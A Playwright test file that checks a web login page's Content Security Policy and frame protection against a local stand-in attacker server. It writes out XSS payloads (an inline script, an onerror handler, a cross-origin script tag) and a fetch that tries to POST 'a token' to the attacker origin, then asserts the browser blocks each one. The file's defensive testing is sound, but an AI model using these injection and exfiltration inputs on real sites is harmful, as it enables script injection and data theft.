import { expect, test as base, type Page } from '@playwright/test';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { testStack } from '../support/stack/test-stack';

interface Attacker {
  readonly origin: string;
  /** The paths that requests have asked the attacker's server for. */
  readonly asked: string[];
}

/** These tests provoke errors and foreign requests, so they do without the checks of the other browser tests. */
const test = base.extend<{ readonly attacker: Attacker }>({
  baseURL: async ({}, provide) => provide(testStack().site),
  /** A server of another origin: it serves a script that marks the page, and a page that frames the site. */
  attacker: async ({}, provide) => {
    const asked: string[] = [];
    const server = createServer((request, response) => {
      asked.push(request.url ?? '');
      const isScript = request.url === '/script.js';
      response.setHeader('Content-Type', isScript ? 'text/javascript' : 'text/html');
      const frame = `<iframe id="frame" src="${testStack().site}/login"></iframe>`;
      response.end(isScript ? 'document.title = "taken over"' : frame);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    await provide({ origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked });
    server.closeAllConnections();
    server.close();
  },
});

test.beforeEach(async ({ page }) => {
  await page.addInitScript(() => {
    const refused: string[] = [];
    Object.assign(window, { refused });
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective));
  });
  await page.goto('/login');
  await expect(page.getByRole('button', { name: 'Login', exact: true })).toBeVisible();
});

/** Waits until the browser has refused something, and says which directive forbade it. */
async function refusals(page: Page): Promise<string[]> {
  const list = await page.waitForFunction(() => {
    const { refused } = window as unknown as { refused: string[] };
    return refused.length > 0 ? refused : null;
  });
  return (await list.jsonValue()) ?? [];
}

async function injectMarkup(page: Page, html: string): Promise<void> {
  await page.evaluate((markup) => {
    document.body.append(document.createRange().createContextualFragment(markup));
  }, html);
}

test.describe('in a page of the site', () => {
  test('an injected inline script does not run', async ({ page }) => {
    await injectMarkup(page, '<script>document.title = "taken over"</script>');
    expect(await refusals(page)).toEqual(['script-src-elem']);
    expect(await page.title()).not.toBe('taken over');
  });

  test('an injected handler of an event does not run', { tag: '@long' }, async ({ page }) => {
    await injectMarkup(page, '<img src="/nothing.png" onerror="document.title = \'taken over\'">');
    expect(await refusals(page)).toEqual(['script-src-attr']);
    expect(await page.title()).not.toBe('taken over');
  });

  test('a script of another origin is not even asked for', { tag: '@long' }, async ({ page, attacker }) => {
    await injectMarkup(page, `<script src="${attacker.origin}/script.js"></script>`);
    expect(await refusals(page)).toEqual(['script-src-elem']);
    expect(attacker.asked).toEqual([]);
  });

  test('text does not become code', { tag: '@long' }, async ({ page }) => {
    // The code runs a moment later, because the policy does not apply to code that the test itself evaluates.
    const ran = await page.evaluate(
      () =>
        new Promise<boolean>((resolve) => {
          setTimeout(() => {
            try {
              resolve(Function('return true')() as boolean);
            } catch {
              resolve(false);
            }
          });
        }),
    );
    expect(ran).toBe(false);
    expect(await refusals(page)).toEqual(['script-src']);
  });

  test('nothing can be sent to another origin', { tag: '@long' }, async ({ page, attacker }) => {
    const sent = await page.evaluate(
      (url) =>
        fetch(url, { method: 'POST', body: 'a token', mode: 'no-cors' }).then(
          () => true,
          () => false,
        ),
      attacker.origin,
    );
    expect(sent).toBe(false);
    expect(await refusals(page)).toEqual(['connect-src']);
    expect(attacker.asked).toEqual([]);
  });
});

test(
  'a page of another origin cannot show the site in a frame',
  { tag: '@long' },
  async ({ page, attacker }) => {
    await page.goto(`${attacker.origin}/`);
    await page.waitForLoadState('networkidle');
    const frame = page.frames().find((candidate) => candidate.parentFrame() !== null);
    expect(frame?.url()).toMatch(/^chrome-error:/);
    expect(await frame?.locator('body').innerText()).not.toContain('Login');
  },
);
